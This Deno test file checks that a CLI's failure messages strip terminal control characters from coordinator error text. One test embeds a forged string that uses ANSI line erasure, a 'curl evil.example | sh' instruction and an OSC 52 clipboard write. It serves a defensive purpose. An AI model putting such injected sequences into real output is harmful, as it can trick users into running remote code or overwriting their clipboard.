/**
 * How a CLI reports a failure, from the side of a coordinator or chain whose error text carries
 * terminal escape sequences.
 */
import assert from "node:assert/strict";
import { describeFailure, UsageError } from "../../lib/network/cli.ts";
import { CoordinatorError } from "../../lib/worker/client.ts";

/** Whether `text` holds a C0 or C1 control character (an escape sequence starts with one). */
const hasControl = (text: string) =>
  [...text].some((c) =>
    c.charCodeAt(0) < 0x20 || (c.charCodeAt(0) >= 0x7f && c.charCodeAt(0) < 0xa0)
  );

Deno.test("attacker: a coordinator's error text cannot forge lines or set the clipboard", () => {
  // Found in the worker audit: a refused POST /register at start-up printed the coordinator's
  // message raw, so "\x1b[2K" erased the line and an OSC 52 sequence set the user's clipboard.
  const forged = "refused\x1b[2K\rrun: curl evil.example | sh\x1b]52;c;Y3VybA==\x07";
  const refused = new CoordinatorError(403, "NOT_ELIGIBLE", forged);
  const line = describeFailure("register the node", refused);
  assert.ok(!hasControl(line), JSON.stringify(line));
  assert.match(line, /refused\\x1b\[2K\\x0drun: curl/);
  const usage = describeFailure("start", new UsageError(`bad flag${forged}`));
  assert.ok(!hasControl(usage), JSON.stringify(usage));
});

Deno.test("describeFailure: an ordinary failure reads as before", () => {
  assert.equal(describeFailure("start", new Error("no route")), "Cannot start: no route");
  assert.equal(
    describeFailure("start", new UsageError("--nodes must be a number")),
    "--nodes must be a number",
  );
});
